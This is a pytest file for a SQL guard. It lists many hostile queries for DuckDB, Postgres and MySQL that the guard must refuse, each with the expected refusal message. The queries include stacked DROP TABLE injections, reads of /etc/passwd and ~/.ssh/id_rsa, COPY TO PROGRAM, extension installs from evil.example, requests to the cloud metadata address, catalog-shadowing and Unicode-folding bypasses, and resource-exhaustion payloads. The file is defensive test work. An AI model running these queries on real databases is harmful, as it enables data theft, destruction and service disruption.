"""A table of attacks on the SQL guard, per dialect: each is refused with a reason a user can act on."""

from __future__ import annotations

import pytest

from lumiere.services.sqlguard import SqlRefused, guard_sql
from tests.helpers.rows import present

ALLOWED = ["tips"]

STATEMENT = "Only a single read-only SELECT statement is allowed"
SEVERAL = "Only a single SELECT statement is allowed; found"
OWN_TABLES = "queries may only read your own tables"
UNREADABLE = "The SQL could not be read"
NOT_SUPPORTED = "is not supported here"
NOT_YOURS = "is not one of your tables"
SYSTEM = "system catalog"
SLOW = "it only slows the database down"
LOCKS = "Locking clauses"
INTO = "SELECT ... INTO is not allowed"
PARAMS = "Parameters and server variables"
METHOD = "Functions cannot be called through a schema"

# (dialect, sql, expected fragment of the refusal)
ATTACKS = [
    # several statements, however they are hidden
    ("duckdb", "SELECT * FROM tips; DROP TABLE tips", SEVERAL),
    ("duckdb", "SELECT * FROM tips;DELETE FROM tips;", SEVERAL),
    ("postgres", "SELECT 1 FROM tips; SELECT pg_sleep(10)", SEVERAL),
    ("mysql", "SELECT 1 FROM tips; SET GLOBAL general_log = 1", SEVERAL),
    # DDL, DML and everything else that is not a SELECT
    ("duckdb", "INSERT INTO tips SELECT * FROM tips", STATEMENT),
    ("duckdb", "UPDATE tips SET tip = 0", STATEMENT),
    ("duckdb", "DELETE FROM tips", STATEMENT),
    ("duckdb", "CREATE TABLE stolen AS SELECT * FROM tips", STATEMENT),
    ("duckdb", "CREATE MACRO evil(x) AS x", STATEMENT),
    ("duckdb", "CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')", STATEMENT),
    ("duckdb", "ALTER TABLE tips ADD COLUMN x INT", STATEMENT),
    ("duckdb", "DROP TABLE tips", STATEMENT),
    ("duckdb", "TRUNCATE tips", STATEMENT),
    ("duckdb", "COPY tips TO '/tmp/stolen.csv'", STATEMENT),
    ("duckdb", "COPY (SELECT * FROM tips) TO '/tmp/stolen.parquet' (FORMAT parquet)", STATEMENT),
    ("duckdb", "ATTACH '/tmp/other.duckdb' AS other", STATEMENT),
    ("duckdb", "ATTACH ':memory:' AS scratch", STATEMENT),
    ("duckdb", "DETACH dataset", STATEMENT),
    ("duckdb", "INSTALL httpfs", STATEMENT),
    ("duckdb", "FORCE INSTALL httpfs FROM 'http://evil.example'", STATEMENT),
    ("duckdb", "LOAD httpfs", STATEMENT),
    ("duckdb", "LOAD '/tmp/evil.duckdb_extension'", STATEMENT),
    ("duckdb", "PRAGMA database_list", STATEMENT),
    ("duckdb", "PRAGMA enable_profiling", STATEMENT),
    ("duckdb", "SET enable_external_access = true", STATEMENT),
    ("duckdb", "SET VARIABLE x = 1", STATEMENT),
    ("duckdb", "RESET memory_limit", STATEMENT),
    ("duckdb", "CALL pragma_version()", STATEMENT),
    ("duckdb", "CHECKPOINT", STATEMENT),
    ("duckdb", "VACUUM", STATEMENT),
    ("duckdb", "USE other", STATEMENT),
    ("duckdb", "BEGIN TRANSACTION", STATEMENT),
    ("duckdb", "PREPARE q AS SELECT 1", STATEMENT),
    ("duckdb", "EXECUTE q", STATEMENT),
    ("duckdb", "DESCRIBE tips", STATEMENT),
    ("duckdb", "SHOW TABLES", STATEMENT),
    ("duckdb", "SUMMARIZE tips", STATEMENT),
    ("duckdb", "EXPLAIN ANALYZE SELECT * FROM tips", STATEMENT),
    ("duckdb", "PIVOT tips ON day USING SUM(tip)", STATEMENT),
    ("duckdb", "UPDATE EXTENSIONS", STATEMENT),
    ("postgres", "DO $$ BEGIN PERFORM pg_sleep(1); END $$", STATEMENT),
    ("postgres", "COPY tips TO PROGRAM 'id'", STATEMENT),
    ("postgres", "LOCK TABLE tips", STATEMENT),
    ("postgres", "LISTEN ch", STATEMENT),
    ("postgres", "SET ROLE postgres", STATEMENT),
    ("postgres", "GRANT ALL ON tips TO public", STATEMENT),
    ("postgres", "VALUES (1)", STATEMENT),
    ("mysql", "LOAD DATA INFILE '/etc/passwd' INTO TABLE tips", UNREADABLE),
    ("mysql", "HANDLER tips OPEN", UNREADABLE),
    ("mysql", "SHOW DATABASES", STATEMENT),
    ("mysql", "KILL 1", STATEMENT),
    ("duckdb", "EXPORT DATABASE '/tmp/dump'", UNREADABLE),
    # DML hidden inside a SELECT
    ("postgres", "WITH gone AS (DELETE FROM tips RETURNING *) SELECT * FROM gone", STATEMENT),
    ("postgres", "SELECT * FROM (INSERT INTO tips DEFAULT VALUES RETURNING *) AS x", UNREADABLE),
    # table functions and file paths used as tables
    ("duckdb", "SELECT * FROM read_csv('/etc/passwd')", OWN_TABLES),
    ("duckdb", "SELECT * FROM read_csv_auto('/etc/passwd')", OWN_TABLES),
    ("duckdb", "SELECT * FROM read_text('/etc/passwd')", OWN_TABLES),
    ("duckdb", "SELECT * FROM read_blob('/etc/shadow')", OWN_TABLES),
    ("duckdb", "SELECT * FROM read_json('/tmp/x.json')", OWN_TABLES),
    ("duckdb", "SELECT * FROM read_parquet('s3://bucket/x.parquet')", OWN_TABLES),
    ("duckdb", "SELECT * FROM parquet_scan('/tmp/x.parquet')", OWN_TABLES),
    ("duckdb", "SELECT * FROM sqlite_scan('/tmp/x.db', 't')", OWN_TABLES),
    ("duckdb", "SELECT * FROM postgres_scan('host=x', 'public', 't')", OWN_TABLES),
    ("duckdb", "SELECT * FROM iceberg_scan('s3://b/t')", OWN_TABLES),
    ("duckdb", "SELECT * FROM glob('/home/*')", OWN_TABLES),
    ("duckdb", "SELECT * FROM query('SELECT 1')", OWN_TABLES),
    ("duckdb", "SELECT * FROM query_table('secret')", OWN_TABLES),
    ("duckdb", "SELECT * FROM range(100000000000)", OWN_TABLES),
    ("duckdb", "SELECT * FROM generate_series(1, 10)", OWN_TABLES),
    ("duckdb", "SELECT * FROM duckdb_settings()", OWN_TABLES),
    ("duckdb", "SELECT * FROM duckdb_secrets()", OWN_TABLES),
    ("duckdb", "SELECT * FROM pragma_table_info('tips')", NOT_SUPPORTED),
    ("duckdb", "SELECT * FROM tips, unnest([1, 2]) AS u(x)", OWN_TABLES),
    ("duckdb", "SELECT * FROM tips, LATERAL read_csv('/etc/passwd')", "LATERAL is only allowed with a subquery"),
    ("duckdb", "SELECT * FROM '/etc/passwd'", "File paths and URLs cannot be used as tables"),
    ("duckdb", "SELECT * FROM 'data.csv'", "File paths and URLs cannot be used as tables"),
    ("duckdb", 'SELECT * FROM "https://evil.example/x.parquet"', "File paths and URLs cannot be used as tables"),
    ("duckdb", "SELECT * FROM tips JOIN 's3://b/x.parquet' AS x ON true", "File paths and URLs cannot be used"),
    ("duckdb", "SELECT * FROM tips WHERE tip IN (FROM '~/.ssh/id_rsa')", "File paths and URLs cannot be used"),
    ("postgres", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", OWN_TABLES),
    ("postgres", "SELECT * FROM generate_series(1, 1000000000)", OWN_TABLES),
    # functions that read files, settings, the environment or the network, or just wait
    ("duckdb", "SELECT read_text('/etc/passwd')", OWN_TABLES),
    ("duckdb", "SELECT getenv('HOME') FROM tips", OWN_TABLES),
    ("duckdb", "SELECT current_setting('home_directory')", OWN_TABLES),
    ("duckdb", "SELECT getvariable('x')", NOT_SUPPORTED),
    ("duckdb", "SELECT version()", OWN_TABLES),
    ("duckdb", "SELECT current_database()", OWN_TABLES),
    ("duckdb", "SELECT http_get('http://169.254.169.254/')", OWN_TABLES),
    ("duckdb", "SELECT unnest(range(1000000000))", OWN_TABLES),
    ("duckdb", "SELECT x.lower() FROM tips AS x", METHOD),
    ("duckdb", "SELECT main.lower(day) FROM tips", METHOD),
    ("duckdb", "SELECT system.main.read_text('/etc/passwd')", METHOD),
    ("postgres", "SELECT pg_read_file('/etc/passwd')", OWN_TABLES),
    ("postgres", "SELECT pg_read_binary_file('/etc/passwd')", OWN_TABLES),
    ("postgres", "SELECT pg_ls_dir('.')", OWN_TABLES),
    ("postgres", "SELECT pg_stat_file('postgresql.conf')", OWN_TABLES),
    ("postgres", "SELECT lo_import('/etc/passwd')", OWN_TABLES),
    ("postgres", "SELECT lo_export(1, '/tmp/x')", OWN_TABLES),
    ("postgres", "SELECT current_setting('data_directory')", OWN_TABLES),
    ("postgres", "SELECT set_config('statement_timeout', '0', false)", OWN_TABLES),
    ("postgres", "SELECT pg_sleep(100)", SLOW),
    ("postgres", "SELECT pg_terminate_backend(1)", OWN_TABLES),
    ("postgres", "SELECT inet_server_addr()", OWN_TABLES),
    ("postgres", "SELECT current_user", OWN_TABLES),
    ("postgres", "SELECT version()", OWN_TABLES),
    ("postgres", "SELECT nextval('seq')", NOT_SUPPORTED),
    ("postgres", "SELECT query_to_xml('SELECT * FROM secret', true, true, '')", NOT_SUPPORTED),
    ("postgres", "SELECT pg_catalog.pg_read_file('/etc/passwd')", METHOD),
    ("postgres", "SELECT pg_advisory_lock(1)", OWN_TABLES),
    ("postgres", "SELECT pg_notify('ch', 'x')", OWN_TABLES),
    ("postgres", "SELECT dblink_connect('host=evil')", OWN_TABLES),
    ("postgres", "SELECT txid_current()", OWN_TABLES),
    ("mysql", "SELECT load_file('/etc/passwd')", OWN_TABLES),
    ("mysql", "SELECT sleep(10)", SLOW),
    ("mysql", "SELECT benchmark(100000000, md5('x'))", SLOW),
    ("mysql", "SELECT get_lock('a', 100)", NOT_SUPPORTED),
    ("mysql", "SELECT user()", OWN_TABLES),
    ("mysql", "SELECT database()", OWN_TABLES),
    ("mysql", "SELECT extractvalue(1, concat(0x7e, version()))", NOT_SUPPORTED),
    ("mysql", "SELECT updatexml(1, concat(0x7e, user()), 1)", NOT_SUPPORTED),
    ("mysql", "SELECT @@datadir", PARAMS),
    ("mysql", "SELECT @x := 1", PARAMS),
    ("postgres", "SELECT $1", PARAMS),
    # system catalogs and other people's tables
    ("duckdb", "SELECT * FROM information_schema.tables", SYSTEM),
    ("duckdb", "SELECT * FROM duckdb_tables", SYSTEM),
    ("duckdb", "SELECT * FROM sqlite_master", SYSTEM),
    ("duckdb", "SELECT * FROM pg_catalog.pg_tables", SYSTEM),
    ("duckdb", "SELECT * FROM system.main.duckdb_tables", "names a database or catalog"),
    ("duckdb", "SELECT * FROM temp.main.scratch", "names a database or catalog"),
    ("duckdb", "SELECT * FROM other_dataset.main.tips", "names a database or catalog"),
    ("duckdb", "SELECT * FROM secret", NOT_YOURS),
    ("duckdb", 'SELECT * FROM "secret"', NOT_YOURS),
    ("duckdb", "SELECT * FROM tips WHERE tip > (SELECT MAX(x) FROM secret)", NOT_YOURS),
    ("duckdb", "SELECT * FROM tips UNION ALL SELECT * FROM secret", NOT_YOURS),
    ("duckdb", "WITH tips AS (SELECT * FROM secret) SELECT * FROM tips", NOT_YOURS),
    ("duckdb", "WITH x AS (SELECT 1) SELECT * FROM x, secret", NOT_YOURS),
    ("duckdb", "SELECT * FROM (WITH secret AS (SELECT 1) SELECT * FROM secret) AS s, secret", NOT_YOURS),
    ("duckdb", "SELECT * FROM tips_backup", NOT_YOURS),
    ("postgres", "SELECT * FROM pg_shadow", SYSTEM),
    ("postgres", "SELECT * FROM pg_catalog.pg_authid", SYSTEM),
    ("postgres", "SELECT * FROM information_schema.columns", SYSTEM),
    ("postgres", "SELECT * FROM other_schema.tips", "is not available"),
    ("postgres", "SELECT * FROM otherdb.public.tips", "names a database or catalog"),
    ("postgres", 'WITH "TIPS" AS (SELECT 1) SELECT * FROM secret', NOT_YOURS),
    # a WITH on a UNION branch is dropped when sqlglot renders the tree: its name would then read the
    # real catalog view (DuckDB's pg_settings holds server paths); the rendering is checked too
    ("duckdb", "SELECT 1 FROM tips UNION ALL WITH pg_settings AS (SELECT 1) SELECT 1 FROM pg_settings UNION ALL SELECT 1 FROM tips",
     "put every WITH clause at the very start"),
    ("postgres", "SELECT 1 FROM tips UNION ALL WITH secret AS (SELECT 1) SELECT 1 FROM secret UNION ALL SELECT 1 FROM tips",
     "put every WITH clause at the very start"),
    # a RECURSIVE CTE's name is visible to itself only in the recursive branch of its UNION [ALL]:
    # anywhere else DuckDB binds it to the real table or catalog view of that name
    ("duckdb", "WITH RECURSIVE pg_settings AS (SELECT * FROM pg_settings) SELECT name, setting FROM pg_settings", SYSTEM),
    ("duckdb", "WITH RECURSIVE duckdb_databases AS (SELECT * FROM duckdb_databases) SELECT path FROM duckdb_databases", SYSTEM),
    ("duckdb", "WITH RECURSIVE sqlite_master AS (SELECT * FROM sqlite_master) SELECT sql FROM sqlite_master", SYSTEM),
    ("duckdb", "WITH RECURSIVE duckdb_logs AS (SELECT * FROM duckdb_logs) SELECT * FROM duckdb_logs", SYSTEM),
    ("duckdb", "WITH RECURSIVE pg_type AS (SELECT * FROM pg_type) SELECT * FROM pg_type", SYSTEM),
    ("duckdb", "WITH RECURSIVE pragma_database_list AS (SELECT * FROM pragma_database_list) SELECT file FROM pragma_database_list", SYSTEM),
    ("duckdb", "WITH RECURSIVE pg_settings AS (SELECT name FROM pg_settings UNION ALL SELECT name FROM pg_settings WHERE false) SELECT * FROM pg_settings", SYSTEM),
    ("duckdb", "WITH RECURSIVE pg_settings AS (SELECT 'x' AS name UNION ALL SELECT name FROM pg_settings UNION ALL SELECT name FROM pg_settings WHERE false) SELECT * FROM pg_settings", SYSTEM),
    ("duckdb", "WITH RECURSIVE pg_settings AS (SELECT (SELECT max(name) FROM pg_settings) AS name UNION ALL SELECT name FROM pg_settings WHERE false) SELECT * FROM pg_settings", SYSTEM),
    ("duckdb", "WITH RECURSIVE pg_settings AS ((SELECT 'x' AS name UNION ALL SELECT name FROM pg_settings) UNION ALL SELECT name FROM pg_settings WHERE false) SELECT * FROM pg_settings", SYSTEM),
    ("duckdb", "WITH RECURSIVE pg_settings AS (SELECT 'x' AS name INTERSECT SELECT name FROM pg_settings) SELECT * FROM pg_settings", SYSTEM),
    ("duckdb", "WITH RECURSIVE pg_settings AS (SELECT 'x' AS name EXCEPT SELECT name FROM pg_settings) SELECT * FROM pg_settings", SYSTEM),
    ("duckdb", "WITH RECURSIVE secret AS (SELECT * FROM secret) SELECT * FROM secret", NOT_YOURS),
    ("duckdb", "WITH RECURSIVE a AS (SELECT * FROM secret), secret AS (SELECT 1) SELECT * FROM a", NOT_YOURS),
    ("postgres", "WITH RECURSIVE pg_settings AS (SELECT * FROM pg_settings) SELECT name, setting FROM pg_settings", SYSTEM),
    ("postgres", "WITH RECURSIVE secret AS (SELECT * FROM secret UNION ALL SELECT * FROM secret) SELECT * FROM secret", NOT_YOURS),
    ("mysql", "WITH RECURSIVE secret AS (SELECT * FROM secret) SELECT * FROM secret", NOT_YOURS),
    # names compared the way the database compares them: DuckDB folds ASCII only, so a Kelvin sign
    # (U+212A, "k" to Python's lower()) names no CTE and the real view would be read
    ("duckdb", 'WITH "duc\u212adb_databases" AS (SELECT 1) SELECT database_name, path FROM duckdb_databases', "U+212A"),
    ("duckdb", 'WITH "duc\u212adb_databases" AS (SELECT 1) SELECT database_name, path FROM "duc\u212adb_databases"', "U+212A"),
    ("duckdb", 'WITH "pg_\u017fettings" AS (SELECT 1) SELECT * FROM pg_settings', "U+017F"),
    ("postgres", 'WITH "\u212aey" AS (SELECT 1) SELECT * FROM key', "U+212A"),
    ("mysql", "WITH `\u212aey` AS (SELECT 1) SELECT * FROM `key`", "U+212A"),
    ("mysql", "SELECT * FROM mysql.user", SYSTEM),
    ("mysql", "SELECT * FROM performance_schema.threads", SYSTEM),
    ("mysql", "SELECT * FROM sys.processlist", SYSTEM),
    ("mysql", "SELECT * FROM information_schema.processlist", SYSTEM),
    ("mysql", "SELECT * FROM otherdb.tips", "is not available"),
    # functions that build big values: their size arguments are literal and small, and the largest
    # value an expression can build is bounded (string results are allocated outside DuckDB's memory
    # limit; similarity functions are quadratic and ignore interrupts)
    ("duckdb", "SELECT max(length(lpad(day, 750000, 'x') || 'y')) FROM tips", "lpad's length must be a number up to 10,000"),
    ("duckdb", "SELECT jaro_winkler_similarity(lpad('a',3000000,'b'), lpad('a',3000000,'c'))", "lpad's length must be a number up to 10,000"),
    ("duckdb", "SELECT rpad(day, size * 1000000) FROM tips", "rpad's length must be a number up to 10,000"),
    ("postgres", "SELECT lpad(day, 2000000000) FROM tips", "lpad's length must be a number up to 10,000"),
    ("mysql", "SELECT rpad(day, 10001, 'x') FROM tips", "rpad's length must be a number up to 10,000"),
    ("duckdb", "SELECT length(lpad(day, 10000) || lpad(day, 10000)) FROM tips", "text values too big"),
    ("duckdb", "WITH a AS (SELECT lpad(day, 9000) AS p FROM tips) SELECT length(p || p) FROM a", "text values too big"),
    ("duckdb", "SELECT lpad(day, 9000) AS p, length(p || p) FROM tips", "text values too big"),
    ("duckdb", "SELECT length(concat(" + ", ".join(["day"] * 40) + ")) FROM tips", "text values too big"),
    ("duckdb", "SELECT replace(replace(replace(day, 'a', 'aaaaaaaaaa'), 'a', 'aaaaaaaaaa'), 'a', 'aaaaaaaaaa') FROM tips", "text values too big"),
    ("duckdb", "SELECT regexp_replace(day, '', day, 'g') FROM tips", "must be quoted text"),
    ("duckdb", "WITH RECURSIVE r AS (SELECT 'a' AS s UNION ALL SELECT s || s FROM r WHERE length(s) < 100000000) SELECT max(length(s)) FROM r", "grows with every step"),
    ("duckdb", "SELECT jaro_winkler_similarity(day || day, 'x') FROM tips", "compares text of at most 1,000 characters"),
    ("duckdb", "SELECT levenshtein(lpad(day, 5000), 'x') FROM tips", "compares text of at most 1,000 characters"),
    ("postgres", "SELECT levenshtein(day, repeat('x', 100000)) FROM tips", NOT_SUPPORTED),
    ("duckdb", "SELECT repeat('x', 1000000000)", NOT_SUPPORTED),
    ("duckdb", "SELECT string_agg(lpad(day, 5000), ',') FROM tips", "collects one value per row"),
    ("duckdb", "SELECT list(lpad(day, 5000)) FROM tips", "collects one value per row"),
    ("mysql", "SELECT group_concat(rpad(day, 9000, 'x') SEPARATOR ',') FROM tips", "collects one value per row"),
    ("duckdb", "SELECT string_agg(day, lpad(',', 9000)) FROM tips", "separator must be quoted text"),
    ("duckdb", "SELECT format('{:>100000}', day) FROM tips", "numbers up to 10,000"),
    ("duckdb", "SELECT format('{:>{}}', day, 100000) FROM tips", "not taken from arguments"),
    ("duckdb", "SELECT printf('%*d', 100000, 1) FROM tips", "not taken from arguments"),
    ("postgres", "SELECT format('%-100000s', day) FROM tips", "numbers up to 10,000"),
    ("postgres", "SELECT format('%1$*2$s', day, 100000) FROM tips", "not taken from arguments"),
    ("duckdb", "SELECT bar(tip, 0, 10, 100000000) FROM tips", "bar's width must be a number up to 10,000"),
    ("duckdb", "SELECT array_to_string(list(day), day) FROM tips", "separator must be quoted text"),
    ("postgres", "SELECT CAST(day AS CHAR(100000000)) FROM tips", "must be a number up to 10,000"),
    ("mysql", "SELECT CAST(day AS CHAR(100000000)) FROM tips", "must be a number up to 10,000"),
    ("duckdb", "SELECT concat_ws(lpad(',', 10000), day, sex, time) FROM tips", "text values too big"),
    ("duckdb", "SELECT hex(hex(lpad(day, 6000))) FROM tips", "text values too big"),
    # writing or locking from a SELECT
    ("duckdb", "SELECT * INTO stolen FROM tips", INTO),
    ("postgres", "SELECT * INTO TEMP stolen FROM tips", INTO),
    ("mysql", "SELECT * FROM tips INTO OUTFILE '/tmp/x'", UNREADABLE),
    ("mysql", "SELECT * FROM tips INTO DUMPFILE '/tmp/x'", UNREADABLE),
    ("postgres", "SELECT * FROM tips FOR UPDATE", LOCKS),
    ("postgres", "SELECT * FROM tips FOR NO KEY UPDATE NOWAIT", LOCKS),
    ("postgres", "SELECT * FROM tips FOR SHARE", LOCKS),
    ("mysql", "SELECT * FROM tips LOCK IN SHARE MODE", LOCKS),
    ("mysql", "SELECT * FROM tips FOR UPDATE SKIP LOCKED", LOCKS),
    # hints and modifiers that change server behaviour
    ("mysql", "SELECT /*+ SET_VAR(max_execution_time=0) */ * FROM tips", "Optimizer hints are not allowed"),
    ("mysql", "SELECT SQL_CALC_FOUND_ROWS * FROM tips", "SELECT modifiers"),
    ("mysql", "SELECT * FROM tips FORCE INDEX (primary)", "Index hints are not allowed"),
    # broken or sneaky text
    ("duckdb", "SELECT 'unterminated FROM tips", UNREADABLE),
    ("duckdb", "SELECT * FROM tips WHERE day = 'x' OR 1=1; DROP TABLE tips; --'", SEVERAL),
    ("mysql", "SELECT * FROM tips WHERE day = 'x\\\\' ; DROP TABLE tips; -- '", SEVERAL),
    ("duckdb", "SELECT * FROM tips\x00; DROP TABLE tips", "NUL character"),
    ("duckdb", "", "The SQL is empty"),
    ("duckdb", "-- just a comment", "The SQL is empty"),
    ("duckdb", "SELECT " + "1 + " * 5 + "(" * 400 + "1" + ")" * 400, "nested too deeply"),
    ("duckdb", "SELECT * FROM tips LIMIT 1 " + "x" * 100_001, "longer than"),
]


@pytest.mark.parametrize(("dialect", "sql", "expected"), ATTACKS, ids=[f"{d}:{s[:50]}" for d, s, _ in ATTACKS])
def test_attack_is_refused_with_a_reason(dialect: str, sql: str, expected: str) -> None:
    with pytest.raises(SqlRefused) as caught:
        guard_sql(sql, dialect=dialect, allowed_tables=ALLOWED, row_cap=100, allowed_schemas=["main"])
    detail = caught.value.detail
    assert caught.value.status_code == 400
    assert expected in detail, detail
    assert "Traceback" not in detail and "\x1b" not in detail and "TokenType" not in detail
    assert len(detail) < 400


SAFE_LOOKALIKES = [
    # words that look dangerous but are data or ordinary SQL
    ("duckdb", "SELECT 'DROP TABLE tips; read_csv(/etc/passwd)' AS text FROM tips"),
    ("duckdb", 'SELECT day AS "select", COUNT(*) AS "delete" FROM tips GROUP BY day'),
    ("duckdb", "SELECT * FROM tips WHERE day = 'pg_sleep' OR time = '@@version'"),
    ("postgres", "SELECT * FROM tips WHERE day LIKE '%;%' ORDER BY tip DESC LIMIT 5"),
    ("mysql", "SELECT day, COUNT(*) FROM tips WHERE sex <> 'x\\'y' GROUP BY day"),
]


@pytest.mark.parametrize(("dialect", "sql"), SAFE_LOOKALIKES)
def test_lookalikes_pass_and_keep_their_text_as_data(dialect: str, sql: str) -> None:
    guarded = guard_sql(sql, dialect=dialect, allowed_tables=ALLOWED, row_cap=100)
    assert guarded.tables == ["tips"]


@pytest.mark.parametrize(
    ("dialect", "sql", "literal"),
    [
        ("duckdb", "SELECT * FROM tips WHERE day = 'x'' OR 1=1; DROP TABLE tips; --'", "x' OR 1=1; DROP TABLE tips; --"),
        ("mysql", "SELECT * FROM tips WHERE day = 'x\\' ; DROP TABLE tips; -- '", "x' ; DROP TABLE tips; -- "),
        ("postgres", "SELECT * FROM tips WHERE day = $$'; DROP TABLE tips; --$$", "'; DROP TABLE tips; --"),
    ],
)
def test_injected_text_stays_one_string_literal(dialect: str, sql: str, literal: str) -> None:
    """Quotes that try to end the string early are part of the string after re-rendering."""
    import sqlglot
    from sqlglot import exp

    guarded = guard_sql(sql, dialect=dialect, allowed_tables=ALLOWED, row_cap=100)
    statements = sqlglot.parse(guarded.sql, read=dialect)
    assert len(statements) == 1
    literals = [node.this for node in present(statements[0]).find_all(exp.Literal) if node.is_string]
    assert literals == [literal]
